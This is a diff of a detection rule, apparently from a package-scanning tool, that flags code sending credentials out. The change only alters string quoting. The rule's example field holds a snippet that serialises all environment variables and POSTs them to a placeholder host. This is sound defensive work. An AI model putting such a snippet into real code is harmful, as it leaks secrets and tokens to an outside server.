@@ -24,7 +24,7 @@ export const secretExfiltration: JsRule = {
     rationale:
       'Stealers read credentials and send them out; Beagle follows the value from where it is read, through variables, objects, JSON.stringify, encodings, template strings and local helper functions, to the request that carries it — also into sink wrappers: a function (in the same file or exported by another package module) whose parameter reaches the request, reported at the call with both files in the flow. A library that reads a single config variable does not send it anywhere.',
     falsePositives:
-      'SDK clients that send their own API key (read from a named env var) to their own service in an Authorization header; HTTP proxies that forward form data by design; session-replay tools that record request bodies and upload them directly from the hook. Cloud credentials sent to the metadata service itself, to the providers\' API domains or to an address built at run time (SDK endpoints) are not reported; a hook passing requests on to the function it replaced is not a flow.',
+      "SDK clients that send their own API key (read from a named env var) to their own service in an Authorization header; HTTP proxies that forward form data by design; session-replay tools that record request bodies and upload them directly from the hook. Cloud credentials sent to the metadata service itself, to the providers' API domains or to an address built at run time (SDK endpoints) are not reported; a hook passing requests on to the function it replaced is not a flow.",
     example:
       "const data = JSON.stringify(process.env);\nhttps.request({ hostname: 'x.invalid', method: 'POST' }).end(data)",
     references: [
